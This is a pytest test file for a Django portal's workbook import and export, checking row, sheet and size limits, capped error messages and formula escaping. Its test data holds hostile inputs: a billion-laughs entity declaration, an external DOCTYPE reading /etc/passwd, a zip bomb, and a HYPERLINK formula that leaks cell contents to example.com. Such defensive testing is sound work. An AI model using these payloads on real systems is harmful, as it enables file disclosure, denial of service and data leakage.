"""Issue 13, findings 6, 8 (imports) and 9: every workbook import is bounded before it is read,
a damaged or hostile file is a message (never a 500), the messages of a refused file are
capped, and every cell the portal writes from user text is text, never a formula."""

import io
import re
import time
import zipfile

import pytest
from openpyxl import Workbook, load_workbook

from evaluation.excel import FIRST_ROW, MAX_ROWS, TEMPLATE_MARK, VALUE
from evaluation.models import ReportValue
from portal.excel import MAX_SHEETS, SHOWN_MESSAGES
from services.models import Voucher
from tests import factories
from tests.evaluation import factories as evaluation

pytestmark = pytest.mark.django_db

YEAR = 2025
SHEET_PART = "xl/worksheets/sheet1.xml"
MAIN = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'


@pytest.fixture
def scene(yongkang_complex):
    evaluation.open_period(YEAR)
    report = evaluation.report(yongkang_complex, YEAR)
    return report, factories.operator_of(yongkang_complex)


def saved(book: Workbook) -> bytes:
    content = io.BytesIO()
    book.save(content)
    return content.getvalue()


def with_part(workbook: bytes, name: str, data: bytes) -> bytes:
    """The workbook with one part replaced (or added), compressed as Excel does."""
    output = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(workbook)) as source,
        zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for part in source.infolist():
            if part.filename != name:
                target.writestr(part.filename, source.read(part.filename))
        target.writestr(name, data)
    return output.getvalue()


def sheet_of(rows, *, dimension: str | None = None) -> bytes:
    """A sheet part holding ``rows`` (tuples of text), written directly: openpyxl is slow at
    writing 200,000 rows, and never writes a dimension that lies."""
    lines = []
    for number, texts in enumerate(rows, start=1):
        cells = "".join(
            f'<c r="{chr(65 + column)}{number}" t="inlineStr"><is><t>{text}</t></is></c>'
            for column, text in enumerate(texts)
        )
        lines.append(f'<row r="{number}">{cells}</row>')
    declared = f'<dimension ref="{dimension}"/>' if dimension else ""
    return (
        f"<worksheet {MAIN}>{declared}<sheetData>{''.join(lines)}</sheetData></worksheet>".encode()
    )


def numbered(count: int, first: tuple) -> list[tuple]:
    """``first``, then rows of one made-up indicator code each, up to ``count`` rows."""
    return [first, *((f"x{number}",) for number in range(2, count + 1))]


def report_header(report) -> tuple:
    """The first row of the report's template: what the import checks before any value."""
    return (TEMPLATE_MARK, report.complex.code, str(report.year))


def template(client, report) -> bytes:
    response = client.get(f"/evaluation/reports/{report.pk}/template.xlsx")
    assert response.status_code == 200
    return response.content


def upload_report(client, report, content: bytes):
    file = io.BytesIO(content)
    file.name = "report.xlsx"
    return client.post(
        f"/evaluation/reports/{report.pk}/upload/",
        {"file": file},
        follow=True,
        HTTP_ACCEPT_LANGUAGE="en",
    )


def error_messages(page) -> list[str]:
    return re.findall(r'<div class="alert alert-danger" role="alert">(.*?)</div>', page, re.S)


def upload_vouchers(api_as, content: bytes):
    file = io.BytesIO(content)
    file.name = "vouchers.xlsx"
    return api_as(factories.provincial_official()).post(
        "/api/v1/vouchers/import/", {"file": file}, format="multipart", HTTP_ACCEPT_LANGUAGE="en"
    )


def voucher_book(*rows) -> Workbook:
    book = Workbook()
    book.active.append(["统一社会信用代码", "金额", "生效日期", "到期日期"])
    for row in rows:
        book.active.append(row)
    return book


# Finding 6: limits before parsing, capped messages ----------------------------------------


def test_the_issues_file_of_200000_rows_is_refused_at_once_with_one_message(client_as, scene):
    report, operator = scene
    client = client_as(operator)
    rows = sheet_of(numbered(200_000, report_header(report)), dimension="A1:C200000")
    content = with_part(template(client, report), SHEET_PART, rows)
    started = time.monotonic()
    page = upload_report(client, report, content).content.decode()
    assert time.monotonic() - started < 3
    messages = error_messages(page)
    assert len(messages) == 1
    assert not ReportValue.objects.filter(report=report).exists()


def test_a_sheet_that_understates_its_rows_stops_being_read_at_the_limit(client_as, scene):
    report, operator = scene
    client = client_as(operator)
    content = with_part(
        template(client, report),
        SHEET_PART,
        sheet_of(numbered(MAX_ROWS + 50, report_header(report)), dimension="A1:C5"),
    )
    messages = error_messages(upload_report(client, report, content).content.decode())
    assert messages == [f"At most {MAX_ROWS} rows and 50 columns per sheet."]


def test_the_messages_of_a_refused_file_are_capped(client_as, scene):
    report, operator = scene
    client = client_as(operator)
    book = load_workbook(io.BytesIO(template(client, report)))
    for row in range(FIRST_ROW, FIRST_ROW + 120):
        book["report"].cell(row=row, column=1, value=f"no_such_code_{row}")
    messages = error_messages(upload_report(client, report, saved(book)).content.decode())
    assert len(messages) == SHOWN_MESSAGES + 1
    assert messages[0] == f"Cell A{FIRST_ROW}: unknown indicator “no_such_code_{FIRST_ROW}”."
    assert messages[-1] == "… and 70 more problems."


def test_a_file_above_the_size_limit_is_refused_before_it_is_opened(api_as, settings):
    settings.EXCEL_IMPORT_MAX_BYTES = 2000
    response = upload_vouchers(api_as, saved(voucher_book()))
    assert response.status_code == 400
    assert response.json() == {"file": ["The file is larger than 0.00190735 MB."]}


def test_a_zip_bomb_is_refused_by_what_it_unpacks_to(api_as):
    bomb = with_part(saved(voucher_book()), "xl/media/padding.xml", b" " * (30 * 2**20))
    assert len(bomb) < 100_000
    response = upload_vouchers(api_as, bomb)
    assert response.status_code == 400
    assert response.json() == {
        "file": ["The workbook unpacks to far more than it weighs: it is refused."]
    }


def test_a_workbook_of_too_many_sheets_is_refused(api_as):
    book = voucher_book()
    for number in range(MAX_SHEETS):
        book.create_sheet(f"extra {number}")
    response = upload_vouchers(api_as, saved(book))
    assert response.status_code == 400
    assert response.json() == {"file": [f"At most {MAX_SHEETS} sheets per workbook."]}


def test_a_voucher_sheet_wider_than_the_limit_is_refused(api_as):
    enterprise = factories.EnterpriseFactory()
    rows = [
        ("代码", "金额", "生效日期", "到期日期"),
        (enterprise.credit_code, "1000", "2026-01-01", "2026-12-31"),
    ]
    wide = sheet_of(rows, dimension="A1:AZ2")
    response = upload_vouchers(api_as, with_part(saved(voucher_book()), SHEET_PART, wide))
    assert response.status_code == 400
    assert response.json() == {"file": ["At most 5001 rows and 50 columns per sheet."]}
    assert not Voucher.objects.exists()


# Finding 8: damaged and hostile XML -------------------------------------------------------


NOT_A_WORKBOOK = "This is not an Excel workbook (.xlsx)."
DOCUMENT_TYPE = (
    "The workbook declares a document type or entities, which Excel never writes: it is refused."
)
ENTITIES = (
    '<?xml version="1.0"?><!DOCTYPE worksheet [<!ENTITY lol "lol">'
    '<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]>'
)


def hostile_part(kind: str, rows: list[tuple]) -> tuple[str, bytes]:
    """(the part replaced, its content) for a sheet of ``rows`` spoiled as ``kind`` says."""
    sheet = sheet_of(rows)
    if kind == "truncated":
        return SHEET_PART, sheet[:-40]
    if kind == "entities":
        return SHEET_PART, ENTITIES.encode() + sheet.replace(b"<t>1000</t>", b"<t>1000&lol2;</t>")
    if kind == "external-doctype":
        return (
            "xl/workbook.xml",
            b'<?xml version="1.0"?><!DOCTYPE workbook SYSTEM "file:///etc/passwd">',
        )
    return SHEET_PART, sheet.decode().encode("utf-16")


@pytest.mark.parametrize(
    ("kind", "message"),
    [
        ("truncated", NOT_A_WORKBOOK),
        ("entities", DOCUMENT_TYPE),
        ("external-doctype", DOCUMENT_TYPE),
        ("utf-16", DOCUMENT_TYPE),
    ],
)
def test_a_damaged_or_hostile_part_is_a_400_with_a_message(api_as, kind, message):
    enterprise = factories.EnterpriseFactory()
    rows = [
        ("代码", "金额", "生效日期", "到期日期"),
        (enterprise.credit_code, "1000", "2026-01-01", "2026-12-31"),
    ]
    part, data = hostile_part(kind, rows)
    response = upload_vouchers(api_as, with_part(saved(voucher_book()), part, data))
    assert response.status_code == 400
    assert response.json() == {"file": [message]}
    assert not Voucher.objects.exists()


def test_a_truncated_report_sheet_is_a_message_on_the_page(client_as, scene):
    report, operator = scene
    client = client_as(operator)
    truncated = sheet_of(numbered(30, report_header(report)))[:-40]
    content = with_part(template(client, report), SHEET_PART, truncated)
    page = upload_report(client, report, content)
    assert page.status_code == 200
    assert error_messages(page.content.decode()) == [NOT_A_WORKBOOK]


# Finding 9: user text is written as text --------------------------------------------------


FORMULA = '=HYPERLINK("http://example.com/?leak="&A1,"click")'


def test_a_comment_that_looks_like_a_formula_stays_text_and_survives_a_round_trip(client_as, scene):
    from evaluation import services

    report, operator = scene
    report = services.report_update(
        report=report,
        version=report.version,
        actor=operator,
        values={"st_projects": 3},
        comments={"st_projects": FORMULA},
    )
    client = client_as(operator)
    content = template(client, report)
    sheet = load_workbook(io.BytesIO(content))["report"]
    row = next(
        r for r in range(FIRST_ROW, sheet.max_row + 1) if sheet.cell(r, 1).value == "st_projects"
    )
    comment = sheet.cell(row=row, column=VALUE + 1)
    assert (comment.value, comment.data_type) == (FORMULA, "s")
    assert all(cell.data_type != "f" for line in sheet.iter_rows() for cell in line)

    page = upload_report(client, report, content)
    assert page.status_code == 200
    assert ReportValue.objects.get(report=report, indicator__code="st_projects").comment == FORMULA


def test_a_complex_name_that_looks_like_a_formula_stays_text_in_the_template(client_as, scene):
    report, operator = scene
    report.complex.name = "=1+1"
    report.complex.save(update_fields=["name"])
    sheet = load_workbook(io.BytesIO(template(client_as(operator), report)))["report"]
    assert sheet["A2"].data_type == "s"
    assert sheet["A2"].value.startswith("=1+1")
